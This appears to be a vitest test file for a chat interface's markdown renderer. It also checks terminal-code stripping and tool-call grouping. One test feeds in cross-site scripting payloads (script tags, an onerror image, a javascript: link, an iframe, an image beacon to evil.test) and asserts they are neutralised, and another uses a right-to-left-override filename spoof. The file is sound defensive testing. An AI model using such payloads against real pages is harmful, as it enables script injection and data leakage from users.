import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "../src/conversation/markdown.tsx";
import { conversationItems } from "../src/logic/conversation-items.ts";
import { plain } from "../src/logic/format.ts";
import type { JsonObject } from "../src/wire/types.ts";

const html = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }));

test("markdown is shown as what it is", () => {
  const shown = html("# Title\n\n- one **two**\n- `three`\n\n| a |\n|---|\n| 1 |\n\n```ts\nx < 1\n```");
  expect(shown).toContain("Title</span>");
  expect(shown).toContain("<strong>");
  expect(shown).toContain("<table>");
  expect(shown).toContain("x &lt; 1");
});

test("nothing of a text becomes an element that runs, loads or sends", () => {
  const hostile = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![beacon](http://evil.test/?d=1)",
    "[click](javascript:alert(1))",
    "<iframe src='http://evil.test'></iframe>",
    "[ref]: http://evil.test\n![x][ref]",
    '<a href="http://evil.test" onmouseover="x()">a</a>',
  ].join("\n\n");
  const shown = html(hostile);
  expect(shown).not.toMatch(/<(img|script|iframe|object|embed|form|style|svg|link|base)\b/i);
  expect(shown).not.toMatch(/href="(?!https?:)/);
  expect(shown).not.toMatch(/<[^>]+\son\w+=/);
  expect(shown).toContain("evil.test");
  expect(shown).toMatch(/<a [^>]*rel="noopener noreferrer nofollow"/);
});

test("codes of a terminal go, characters that turn the text around are made visible", () => {
  expect(plain("\u001B[31mred\u001B[0m")).toBe("red");
  expect(plain("user\u202Etxt.exe")).toBe("user⟨U+202E⟩txt.exe");
});

const call = (id: string) => ({ type: "tool_use", id, name: "grep", input: {} });
const result = (id: string) => ({ type: "tool_result", id, name: "grep", output: [], state: "success" });
const message = (id: string, role: string, content: JsonObject[]): JsonObject => ({
  id,
  role,
  name: role,
  content,
  metadata: {},
  timestamp: 1,
});

test("results stand with their calls; one whose call is not there stands by itself", () => {
  const messages = [
    message("m1", "user", [{ type: "text", text: "hi" }]),
    message("m2", "assistant", [call("c1"), call("c2")]),
    message("m3", "tool", [result("c1")]),
    message("m4", "tool", [result("c9")]),
  ];
  const items = conversationItems({ messages }, []);
  expect(items.map(({ key }) => key)).toEqual(["m1", "m2", "m4"]);
  const [, asked] = items;
  expect(asked?.kind === "message" && [...asked.results.keys()]).toEqual(["c1"]);
});

test("an answer that is being written comes last, and only until it is a message", () => {
  const block = { messageId: "m2", index: 0, kind: "text", text: "…" } as const;
  const stored = [message("m2", "assistant", [])];
  expect(conversationItems({ messages: [] }, [block]).map(({ kind }) => kind)).toEqual(["stream"]);
  expect(conversationItems({ messages: stored }, [block]).map(({ kind }) => kind)).toEqual(["message"]);
  const [draft] = conversationItems({ messages: [], draft: { message: stored[0]! } }, [block]);
  expect(draft).toMatchObject({ kind: "message", isDraft: true });
});
